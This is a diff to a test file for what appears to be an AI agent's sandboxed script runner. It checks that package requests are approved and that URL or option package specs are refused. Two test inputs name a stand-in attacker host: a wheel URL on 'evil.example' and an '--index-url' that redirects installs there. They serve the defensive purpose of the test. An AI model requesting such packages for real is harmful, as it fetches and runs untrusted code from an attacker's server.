@@ -145,21 +145,38 @@ describe('a model that asks for packages', needs('bubblewrap', 'pip'), () => {
     expect(asked).toHaveLength(1);
   });
 
-  test('addresses, options and packages without a skill are refused before anything is asked or requested', async () => {
+  test('addresses and options are refused before anything is asked or requested', async () => {
     const index = await openIndex({});
     const { run } = await reading(index.url);
     const { asked, approve } = answering('yes');
     const calls = [
       ['run_script', { ...SKILL, packages: ['https://evil.example/x.whl'] }],
       ['run_script', { ...SKILL, packages: ['--index-url=http://evil.example'] }],
-      ['run_command', { command: 'true', packages: ['base-lib'] }],
     ] as const;
     const model = played([{ calls }, { text: 'no' }]);
     await run(model, approve);
     const text = allText(model.requests[1] ?? expect.fail());
-    for (const part of ['x.whl', '--index-url=http', 'packages are installed for the programs of a skill'])
-      expect(text).toContain(part);
+    for (const part of ['x.whl', '--index-url=http']) expect(text).toContain(part);
     expect(text.match(/URLs, paths and options are not accepted/g)).toHaveLength(2);
     expect([asked, index.requests]).toEqual([[], []]);
+  });
+
+  test('packages of a command without a skill are asked about once, and every later program of the session has them', async () => {
+    const index = await openIndex({ 'base-lib': [BASE] });
+    const { run } = await reading(index.url);
+    const { asked, approve } = answering('yes');
+    const command = 'pip install base-lib && python3 -c "import base_lib; print(base_lib.VALUE)"';
+    const model = played([
+      { calls: [['run_command', { command }]] },
+      { calls: [['run_command', { command: 'python3 -c "import base_lib; print(base_lib.VALUE + 1)"' }]] },
+      LATER,
+      { text: 'done' },
+    ]);
+    await run(model, approve);
+    expect(asked.filter(({ tool }) => tool === 'install_packages').map(({ skill }) => skill)).toEqual([undefined]);
+    const text = allText(model.requests[3] ?? expect.fail());
+    expect(text).toContain('Requirement already satisfied: base-lib');
+    expect(text).toMatch(/42\\n"[^]*"43\\n"/);
+    expect(text).not.toContain('ModuleNotFoundError');
   });
 });
